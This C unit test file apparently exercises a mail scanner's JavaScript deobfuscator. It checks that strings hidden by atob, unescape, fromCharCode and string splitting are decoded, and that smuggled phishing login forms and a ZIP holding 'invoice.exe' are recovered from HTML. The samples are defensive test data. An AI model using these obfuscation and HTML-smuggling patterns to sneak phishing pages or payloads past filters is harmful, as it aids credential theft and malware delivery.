#include "engine/mail/script.h"

#include <time.h>

#include "engine/base/limits.h"
#include "tests/mail/mail_test.h"

#define HEADER "Content-Type: text/html; charset=utf-8\n\n"

static struct test_message open_html(const char *document)
{
    char *raw = malloc(strlen(document) + sizeof HEADER);
    assert_non_null(raw);
    (void)snprintf(raw, strlen(document) + sizeof HEADER, "%s%s", HEADER, document);
    struct test_message test = open_text(raw);
    free(raw);
    return test;
}

static struct test_message open_script(const char *script)
{
    char *document = malloc(strlen(script) + 32);
    assert_non_null(document);
    (void)snprintf(document, strlen(script) + 32, "<script>%s</script>", script);
    struct test_message test = open_html(document);
    free(document);
    return test;
}

static const struct html_facts *facts_of(const struct test_message *test)
{
    const struct html_facts *facts = part_html(test->message, test->message->parts);
    assert_non_null(facts);
    return facts;
}

static bool holds(struct bytes_list list, const char *text)
{
    for (size_t i = 0; i < list.count; i++)
        if (bytes_equal(list.items[i], bytes_of(text)))
            return true;
    return false;
}

static void print_decoded(struct bytes_list list)
{
    for (size_t i = 0; i < list.count; i++)
        print_message("decoded: %.*s\n", (int)list.items[i].size, (const char *)list.items[i].data);
}

static void undoes_what_hides_a_string(void **state)
{
    (void)state;
    static const struct {
        const char *script;
        const char *decoded;
    } rows[] = {
        /* Functions of the language */
        {"f(unescape('%70assword%21'))", "password!"},
        {"f(unescape('%u0070%u0061ss%u20AC'))", "pass\xE2\x82\xAC"},
        {"f(unescape('%uD83D%uDE00 smile'))", "\xF0\x9F\x98\x80 smile"},
        {"f(decodeURIComponent('%C3%A9l%C3%A8ve'))", "\xC3\xA9l\xC3\xA8ve"},
        {"f(decodeURI('%41 page'))", "A page"},
        {"f(unescape('%E9l%E8ve'))", "\xC3\xA9l\xC3\xA8ve"}, /* no UTF-8: as in a browser */
        {"f(unescape('50%, %zz, %4'+'1'))", "50%, %zz, A"},
        {"f(atob('cGFzc3dvcmQ='))", "password"},
        {"f(window.atob('cGFzc3dvcmQ'))", "password"},
        {"f(window['atob']('cGFzc3dvcmQ='))", "password"},
        {"f(window['at'+'ob']('cGFzc3dvcmQ='))", "password"},
        {"f(window['\\x61tob']('cGFzc3dvcmQ='))", "password"},
        {"f(atob(atob('Y0dGemMzZHZjbVE9')))", "password"},
        {"var d = atob; f(d('cGFzc3dvcmQ='))", "password"},
        {"f(decodeURIComponent(escape(atob('w6lsw6h2ZQ=='))))", "\xC3\xA9l\xC3\xA8ve"},
        {"f(String.fromCharCode(112,97,115,115))", "pass"},
        {"f(String.fromCharCode(0x70,0141,115,100+15))", "pass"},
        {"f(String.fromCharCode.apply(null,[112,97,115,115]))", "pass"},
        {"f(String['fromCharCode'].call(String,112,97,115,115))", "pass"},
        {"f(String.fromCharCode(0xD83D,0xDE00))", "\xF0\x9F\x98\x80"},
        {"f([112,97,115,115,119,111,114,100].map(function(c){return String.fromCharCode(c)})"
         ".join(''))",
         "password"},
        {"f('112 97 115 115 119 111 114 100'.split(' ').map(x=>String.fromCharCode(x)).join(''))",
         "password"},
        /* Escapes */
        {"f('\\x70\\x61\\x73\\x73')", "pass"},
        {"f(\"\\u0070\\u{61}\\163s\")", "pass"},
        {"f('\\uD83D\\uDE00 it')", "\xF0\x9F\x98\x80 it"},
        /* Pieces */
        {"f('pa'+'ss'+\"wo\"+`rd`)", "password"},
        {"f('pass'+unknown+'word'+g(1))", "password"},
        {"var a='pass'; var b=\"word\"; f(a+b)", "password"},
        {"var a='pass'; a+='wo'; a+='rd';", "password"},
        {"var a='pass'; a=a+'wo'; a = a + 'rd'; f(a)", "password"},
        {"var a='pass'; f(`${a}word`)", "password"},
        {"f('pa'.concat('ss','word'))", "password"},
        {"f(['pa','ss','word'].join(''))", "password"},
        {"f(['word','pass'].reverse().join(''))", "password"},
        {"f('drowssap'.split('').reverse().join(''))", "password"},
        {"f('pa|ss|word'.split('|').join(''))", "password"},
        {"f('p#a#s#s#word'.replace(/#/g,''))", "password"},

        {"f('p#a!s#s!word'.replace(/[#!]/g,''))", "password"},
        {"f('p.q.word'.replace('.q.','ass'))", "password"},
        {"f('xxpasswordxx'.substring(2,10))", "password"},
        {"var w=['word','pass']; f(w[1]+w[0])", "password"},
        {"var o={k:'cGFzc3dvcmQ='}; f(atob(o.k))", "password"},
        {"this.d='cGFzc3dvcmQ='; f(atob(this.d))", "password"},
        {"(function(){var a='pass'; (()=>{ f(a+'word') })() })()", "password"},
        {"x = /['\"]/.test(y); f('pass'+'word')", "password"},
        {"// it's\n/* don't */ f('pass'+'word')", "password"},
        {"f('pass'+'word", "password"},
        /* By their looks */
        {"f('PHA+U2lnbiBpbiB0byByZWFkIHRoaXM8L3A+')", "<p>Sign in to read this</p>"},
        {"f('3c703e5369676e20696e3c2f703e')", "<p>Sign in</p>"},
        {"f('%3Cp%3ESign%20in%3C%2Fp%3E')", "<p>Sign in</p>"},
        {"f('&#60;p&#62;Sign in&#60;/p&#62;')", "<p>Sign in</p>"},
        {"f('\\\\x3c\\\\x70\\\\x3ein')", "<p>in"},
        {"var l=[60,112,62,83,105,103,110,32,105,110];", "<p>Sign in"},
        {"f('60,112,62,83,105,103,110,32,105,110')", "<p>Sign in"},
        {"location='data:text/html;base64,PHA+U2lnbiBpbjwvcD4='", "<p>Sign in</p>"},
    };
    bool all_good = true;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct test_message test = open_script(rows[i].script);
        if (!holds(facts_of(&test)->decoded, rows[i].decoded)) {
            print_message("not decoded: %s\n", rows[i].script);
            print_decoded(facts_of(&test)->decoded);
            all_good = false;
        }
        close_message(&test);
    }
    assert_true(all_good);
}

static void decodes_nothing_where_nothing_hides(void **state)
{
    (void)state;
    static const char *const scripts[] = {
        "var a = 'plain words'; f(a, 3, null);",
        "if (a < b && c > d) { go('there'); }",
        "var gaJsHost = (('https:' == document.location.protocol) ? 'a' : 'b');",
        "f('d41d8cd98f00b204e9800998ecf8427e')", /* a digest */
        "f('getElementsByTagNameAndClassName')",
        "f([1,2,3,4,5,6,7,8,9])",
        "f('100%', '5% 6%')",
        /* What stands in the script as it is */
        "window.open('http://x.example/','n','width=800,height=500')",
        "window.open(u, 'n', 'width='+w)",
        "var a=''; a+='some words'; f(`${b}words`)",
        "document.write('<p>Sign in</p>')",
        "el.innerHTML='Enter <b>it</b>'",
    };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++) {
        struct test_message test = open_script(scripts[i]);
        print_decoded(facts_of(&test)->decoded);
        assert_int_equal(facts_of(&test)->decoded.count, 0);
        close_message(&test);
    }
}

static void reads_the_page_that_a_script_writes(void **state)
{
    (void)state;
    /* The page, twice in base64, of which one layer is unescaped. */
    static const char *const documents[] = {
        "<script>document.write(unescape('%3Ctitle%3ELog%20in%3C%2Ftitle%3E%3Cform%20action%3D"
        "http%3A//x.example/p.php%3EYour%20key%3Cinput%20type%3Dpassword%3E%3C/form%3E'))</script>",
        "<body onload=\"document.write(atob('PHRpdGxlPkxvZyBpbjwvdGl0bGU+PGZvcm0gYWN0aW9uPWh0dHA6Ly"
        "94LmV4YW1wbGUvcC5waHA+WW91ciBrZXk8aW5wdXQgdHlwZT1wYXNzd29yZD48L2Zvcm0+'))\">",
        "<script>var a='<title>Log in</title><form action=http://x.example/p.php>Your k',"
        "b='ey<input type=pass'; b+='word></form>'; d.innerHTML=a+b</script>",
        "<script>eval(unescape('%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%22%3Ctitle%3ELog%20in"
        "%3C/title%3E%3Cform%20action%3Dhttp%3A//x.example/p.php%3EYour%20key%3Cinput%20type%3D"
        "password%3E%22%29'))</script>",
        "<iframe src='data:text/html;base64,PHRpdGxlPkxvZyBpbjwvdGl0bGU+PGZvcm0gYWN0aW9uPWh0dHA6Ly"
        "94LmV4YW1wbGUvcC5waHA+WW91ciBrZXk8aW5wdXQgdHlwZT1wYXNzd29yZD48L2Zvcm0+'></iframe>",
        "<iframe srcdoc='<title>Log in</title><form action=http://x.example/p.php>Your key"
        "<input type=password>'></iframe>",
    };
    for (size_t i = 0; i < sizeof documents / sizeof *documents; i++) {
        struct test_message test = open_html(documents[i]);
        const struct html_facts *facts = facts_of(&test);
        assert_bytes(facts->title, "Log in");
        assert_true(holds(facts->form_actions, "http://x.example/p.php"));
        assert_true(holds(facts->input_types, "password"));
        assert_bytes(part_visible_text(test.message, test.message->parts), "Your key");
        close_message(&test);
    }
}

/* "<p>Sign in to read this</p>", and the start of a ZIP archive. */
#define PAGE "Sign in to read this"
#define PAGE_BASE64 "PHA+U2lnbiBpbiB0byByZWFkIHRoaXM8L3A+"
#define PAGE_BASE64_TWICE "UEhBK1UybG5iaUJwYmlCMGJ5QnlaV0ZrSUhSb2FYTThMM0Er"
#define PAGE_HEX "3c703e5369676e20696e20746f207265616420746869733c2f703e"
#define PAGE_CODE_BASE64 "ZG9jdW1lbnQud3JpdGUoJzxwPlNpZ24gaW4gdG8gcmVhZCB0aGlzPC9wPicp"
#define URL_CODE_BASE64 "bG9jYXRpb24uaHJlZj0naHR0cDovL3guZXhhbXBsZS9pbic="
#define ZIP_BASE64                                                                                 \
    "UEsDBBQAAAAIAGludm9pY2UuZXhlAAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4v" \
    "MDEyMzQ1Njc4OTo7"
#define ZIP_BASE64_TWICE                                                                           \
    "VUVzREJCUUFBQUFJQUdsdWRtOXBZMlV1WlhobEFBRUNBd1FGQmdjSUNRb0xEQTBPRHhBUkVoTVVGUllYR0JrYUd4d2RI" \
    "aDhnSVNJakpDVW1KeWdwS2lzc0xTNHZNREV5TXpRMU5qYzRPVG83"

/* One row for each way to carry a page or a file past filters that needs nothing run. */
static void follows_what_pages_smuggle(void **state)
{
    (void)state;
    static const struct {
        const char *document;
        const char *part; /* of a decoded value */
    } rows[] = {
        {"<script>var f='" ZIP_BASE64 "';function d(){var s=atob(f),b=new Blob([s]);"
         "if(navigator.msSaveOrOpenBlob)navigator.msSaveOrOpenBlob(b,'a.zip');"
         "else{a.href=URL.createObjectURL(b);a.download='a.zip';a.click()}}</script>",
         "invoice.exe"},
        {"<script>var f='" ZIP_BASE64 "';save(f)</script>", "invoice.exe"},
        {"<script>save('" ZIP_BASE64_TWICE "')</script>", "invoice.exe"},
        {"<script>b=new Uint8Array([80,75,3,4,20,0,0,0,8,0,105,110,118,111,105,99,101,46,101,120,"
         "101,0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,"
         "31,32,33,34,35,36,37,38,39,40,41,42,43,44,45,46,47])</script>",
         "invoice.exe"},
        {"<div id=d data-x='" PAGE_BASE64 "'></div>"
         "<script>document.write(atob(document.getElementById('d').dataset.x))</script>",
         PAGE},
        {"<img src=x id='" PAGE_CODE_BASE64 "' onerror='eval(atob(this.id))'>", PAGE},
        {"<input type=hidden id=d value='" PAGE_BASE64 "'><script>w(atob(d.value))</script>", PAGE},
        {"<p id=d style='display:none'>" PAGE_BASE64 "</p><script>w(atob(d.innerText))</script>",
         PAGE},
        {"<embed src='data:text/html;base64," PAGE_BASE64 "'>", PAGE},
        {"<object data='data:text/html;base64," PAGE_BASE64 "'></object>", PAGE},
        {"<a download=a.zip href='data:application/octet-stream;base64," ZIP_BASE64 "'>a</a>",
         "invoice.exe"},
        {"<script src='data:text/javascript;base64," PAGE_CODE_BASE64 "'></script>", PAGE},
        {"<script>f(['3c','70','3e','53','69','67','6e','20','69','6e','20','74','6f','20','72',"
         "'65','61','64','20','74','68','69','73'].map(h=>parseInt(h,16)))</script>",
         PAGE},
        {"<script>var h='" PAGE_HEX "'.match(/../g)</script>", PAGE},
        {"<script>var p=['PHA+U2lnbiBpbiB0','byByZWFkIHRoaXM8','L3A+'];go(p)</script>", PAGE},
        {"<script>w(String.fromCharCode(86-3,108-3,106-3,113-3,0x23-3,0154-3,113-3,35-3,119-3,"
         "114-3,35-3,117-3,104-3,100-3,103-3,35-3,119-3,107-3,108-3,118-3))</script>",
         PAGE},
        {"<script>w([86,108,106,113,35,108,113,35,119,114,35,117,104,100,103,35,119,107,108,118]"
         ".map(function(c){return String.fromCharCode(c-3)}).join(''))</script>",
         PAGE},
        {"<script>w('82.104.102.109.31.104.109.31.115.110.31.113.100.96.99.31.115.103.104.114'"
         ".split('.').map(c=>String.fromCharCode(1+parseInt(c))).join(''))</script>",
         PAGE},
        {"<script>w(atob('+A3L8MXaoRHIkFWZyByb0BibpBibnl2U+AHP'.split('').reverse().join('')))"
         "</script>",
         PAGE},
        {"<script>w('Sig#n in# to r#ead t#his'.split('#').join(''))</script>", PAGE},
        {"<script>w('Sig\\r\\nn in\\r\\n to r\\r\\nead this'.replace(/\\r\\n/g,''))</script>",
         PAGE},
        {"<script>w('S i g n_i n_t o_r e a d_t h i s'.replace(/\\s+/g,'').replace(/_/g,' '))"
         "</script>",
         PAGE},
        {"<script>document.write(unescape(unescape('%253C%2570%253ESign%2520in to read this')))"
         "</script>",
         "<p>" PAGE},
        {"<script>document.write(unescape('%3Cscript%3Edocument.write(unescape(%22%253Cp%253ESign "
         "in to read this%22))%3C/script%3E'))</script>",
         "<p>" PAGE},
        {"<script>location.href='ht'+'tp://x.exa'+'mple/in'</script>", "http://x.example/in"},
        {"<script>eval(atob('" URL_CODE_BASE64 "'))</script>",
         "location.href='http://x.example/in'"},
        {"<script>window['at'+'ob']('" PAGE_BASE64 "')</script>", PAGE},
        {"<script>ato\\u0062('" PAGE_BASE64 "')</script>", PAGE},
        {"<script>setTimeout(\"eval(atob('" PAGE_CODE_BASE64 "'))\",9)</script>", PAGE},
        {"<script>document.head.insertAdjacentHTML('beforeend',atob('" PAGE_BASE64 "'))</script>",
         PAGE},
        {"<body onload=\"window[atob('ZXZhbA==')](atob('" PAGE_CODE_BASE64 "'))\">", PAGE},
        {"<script>d.body['append'+'Child'](x)['sr'.concat('c')]='http:/'+'/x.example/in'</script>",
         "http://x.example/in"},
        {"<script>w(rot13('uggcf://k.rknzcyr/va'))</script>", "https://x.example/in"},
    };
    bool all_good = true;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct test_message test = open_html(rows[i].document);
        struct bytes_list decoded = facts_of(&test)->decoded;
        bool is_found = false;
        for (size_t k = 0; k < decoded.count && !is_found; k++)
            is_found = bytes_find(decoded.items[k], bytes_of(rows[i].part), 0) != BYTES_NOT_FOUND;
        if (!is_found) {
            print_message("not decoded: %s\n", rows[i].document);
            print_decoded(decoded);
        }
        all_good = all_good && is_found;
        close_message(&test);
    }
    assert_true(all_good);
}

static void code_in_a_string_is_read(void **state)
{
    (void)state;
    struct test_message test =
        open_script("setTimeout(\"location.href='http://x.example/in'\", 100)");
    struct message_links links = message_links(test.message);
    assert_int_equal(links.count, 1);
    assert_bytes(links.items[0].link.url, "http://x.example/in");
    close_message(&test);
}

static void a_data_url_is_shown_by_its_start(void **state)
{
    (void)state;
    char *document = malloc(10000);
    assert_non_null(document);
    size_t size =
        (size_t)snprintf(document, 10000, "<a href='data:text/html,<title>Log in</title>");
    while (size < 9000)
        size += (size_t)snprintf(document + size, 10000 - size, "\xC3\xA9");
    (void)snprintf(document + size, 10000 - size, "<input type=password>'>x</a>");
    struct test_message test = open_html(document);
    free(document);
    const struct html_facts *facts = facts_of(&test);
    assert_bytes(facts->title, "Log in");
    assert_true(holds(facts->input_types, "password"));
    assert_int_equal(facts->link_count, 1);
    assert_true(facts->links[0].url.size <= LIMIT_DATA_URL_BYTES);
    assert_true(facts->links[0].url.size > LIMIT_DATA_URL_BYTES - 4);
    close_message(&test);
}

static void takes_what_a_script_sets_as_the_tags_attribute(void **state)
{
    (void)state;
    struct test_message test =
        open_script("var i=document.createElement('input'); i.type='password';"
                    "f.setAttribute('action','http://x.example/a.php');"
                    "location.href='http://y.example/b';xhr.open('POST','https://z.example/c')");
    const struct html_facts *facts = facts_of(&test);
    assert_true(holds(facts->input_types, "password"));
    assert_true(holds(facts->form_actions, "http://x.example/a.php"));
    struct message_links links = message_links(test.message);
    assert_int_equal(links.count, 3);
    assert_bytes(links.items[1].link.url, "http://y.example/b");
    assert_bytes(links.items[2].link.url, "https://z.example/c");
    close_message(&test);
}

static void what_a_script_writes_continues_the_word(void **state)
{
    (void)state;
    struct test_message test =
        open_html("<p>pass<script>document.write('wo'+'rd')</script> now<p>end");
    assert_bytes(part_visible_text(test.message, test.message->parts), "password now\nend");
    close_message(&test);
}

static void scripts_share_their_variables(void **state)
{
    (void)state;
    struct test_message test = open_html("<script>var a='cGFzc3dvcmQ='</script>x"
                                         "<script>f(atob(a))</script>");
    assert_true(holds(facts_of(&test)->decoded, "password"));
    close_message(&test);
}

static void stops_at_its_limits_and_says_so(void **state)
{
    (void)state;
    static const char *const scripts[] = {
        /* It doubles with each line. */
        "a='xxxxxxxxxxxxxxxx';a=a+a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;"
        "a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;a+=a;f(a)",
        /* It writes itself. */
        "var a='<script>document.write(a)<\\/script>'; document.write(a)",
    };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++) {
        struct test_message test = open_script(scripts[i]);
        (void)facts_of(&test);
        if (i == 0)
            assert_true(anomaly_has(test.message->anomalies, ANOMALY_LIMIT_SCRIPT));
        assert_true(test.message->decoded_bytes < MEBIBYTE);
        close_message(&test);
    }
}

static bool says_limit_of_script(const char *script)
{
    struct test_message test = open_script(script);
    (void)facts_of(&test);
    bool says = anomaly_has(test.message->anomalies, ANOMALY_LIMIT_SCRIPT);
    close_message(&test);
    return says;
}

/* Behind so many names, or so deep, what a script states is no longer followed. */
static void says_where_names_and_nesting_are_no_longer_followed(void **state)
{
    (void)state;
    size_t capacity = 16 * (LIMIT_SCRIPT_VARIABLES + 2);
    char *names = test_malloc(capacity);
    size_t size = 0;
    for (size_t i = 0; i <= LIMIT_SCRIPT_VARIABLES; i++)
        size += (size_t)snprintf(names + size, capacity - size, "v%zu='x';", i);
    assert_true(says_limit_of_script(names));
    test_free(names);

    char nested[LIMIT_SCRIPT_NESTING + 4] = "f(";
    memset(nested + 2, '[', LIMIT_SCRIPT_NESTING);
    assert_true(says_limit_of_script(nested));
    assert_false(says_limit_of_script("a='x';f([[['y']]]);f(`b${a}`)"));
}

/* What evaluation may cost is counted, not timed: no script may need more than its limit says, and
 * the limit must be far from where real scripts are. */
static void work_is_linear_in_the_script(void **state)
{
    (void)state;
    static const char *const units[] = {
        "'",
        "\"\\\"",
        "`",
        "/",
        "/[",
        "/*",
        "(",
        "[",
        "{",
        "f(",
        "'a'+",
        "a+='b';",
        "a=a+'b';",
        "f(a);",
        "a[i];",
        "1,",
        "['a'].",
        "a.b.",
        "`${",
        "`${a}`+",
        "\\",
        "'\\x41'",
        "%41",
        "unescape(",
        "x='%41%41';",
        "a='b'+a;",
        "var a=[a,a];",
        "function(){",
        "'PHA+U2lnbiBpbiB0byByZWFkIHRoaXM8L3A+';",
        "document.write(a+='<b>');",
        "[1,2].join(",
        "a.replace('b','c');",
        "a.split('').reverse().join('')+",
        "'\"`",
        "String.fromCharCode(",
        "a.map(c=>c-",
        "[65,66].map(c=>c-1);",
        "a.split('').map(c=>c^7);",
        "a\\u0062+",
        "setTimeout('f(1)');",
        "eval(",
        "['PHA+U2lnbiBpbiB0','b'],",
        "['3c','70'],",
        "f(uggc://),'uggc://x',",
    };
    for (size_t i = 0; i < sizeof units / sizeof *units; i++) {
        struct bytes raw = repeat(HEADER "<script>var a='some words that are rather long';",
                                  units[i], (size_t)1 << 18);
        struct test_message test = open_bytes(raw, NULL);
        (void)part_html(test.message, test.message->parts);
        assert_true(test.message->decoded_bytes <= 2 * raw.size +
                                                       raw.size * LIMIT_SCRIPT_WORK_RATIO +
                                                       LIMIT_SCRIPT_WORK_GRACE_BYTES);
        close_message(&test);
        free_block(raw);
    }
}

/* One long value, named again and again: each use must cost what it is written with. */
static void a_long_value_may_be_named_often(void **state)
{
    (void)state;
    static const struct {
        const char *start;
        const char *filling;
        const char *end;
        const char *use;
    } rows[] = {
        {"var s='", "0", "';f([", "s,"},
        {"var s='", "0", "';String.fromCharCode(", "s,"},
        {"var s='", "0", "';", "x[s];"},
        {"var s='", "0", "';", "x[s]=1;"},
        {"var s=/", "x", "/;", "'a'.replace(s,'b');"},
        {"var s=/", "x", "/;", "'a'.split(s);"},
        {"var s='", "x", "';", "'a'.replace(s,'b');"},
    };
    const size_t half = (size_t)256 << 10;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        char *script = calloc(1, 2 * half + 64);
        assert_non_null(script);
        size_t size = (size_t)snprintf(script, half, "%s", rows[i].start);
        memset(script + size, rows[i].filling[0], half);
        size += half;
        size += (size_t)snprintf(script + size, 64, "%s", rows[i].end);
        size_t use_size = strlen(rows[i].use);
        for (; size + use_size < 2 * half; size += use_size)
            memcpy(script + size, rows[i].use, use_size + 1);
        clock_t start = clock();
        struct test_message test = open_script(script);
        (void)facts_of(&test);
        close_message(&test);
        free(script);
        assert_true(clock() - start < 2 * CLOCKS_PER_SEC);
    }
}

static void stays_inside_every_truncation(void **state)
{
    (void)state;
    survive_every_truncation(bytes_of(
        HEADER "<script>var a='\\x3c\\u{70}\\163\\uD83D\\uDE00';a+=`b${a}c`;/* d */ // e\n"
               "document['wr'+'ite'](unescape('%3Cp%3E%u0041%zz')+atob('PHA+U2ln'));"
               "f([60,0x70,076].map(function(c){return String.fromCharCode(c^1)}).join(''),"
               "'ab|cd'.split('|').reverse().join('').replace(/[b]/g,'&#60;&#61;&#62;'));"
               "x={'k':'data:text/html,%3Cb%3E'};y=a?.b[0];i.type='password'</script>"
               "<a href='data:text/html;base64,PHA+U2lnbiBpbjwvcD4='>z</a>"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(undoes_what_hides_a_string),
        cmocka_unit_test(decodes_nothing_where_nothing_hides),
        cmocka_unit_test(reads_the_page_that_a_script_writes),
        cmocka_unit_test(follows_what_pages_smuggle),
        cmocka_unit_test(code_in_a_string_is_read),
        cmocka_unit_test(a_data_url_is_shown_by_its_start),
        cmocka_unit_test(takes_what_a_script_sets_as_the_tags_attribute),
        cmocka_unit_test(what_a_script_writes_continues_the_word),
        cmocka_unit_test(scripts_share_their_variables),
        cmocka_unit_test(stops_at_its_limits_and_says_so),
        cmocka_unit_test(says_where_names_and_nesting_are_no_longer_followed),
        cmocka_unit_test(work_is_linear_in_the_script),
        cmocka_unit_test(a_long_value_may_be_named_often),
        cmocka_unit_test(stays_inside_every_truncation),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
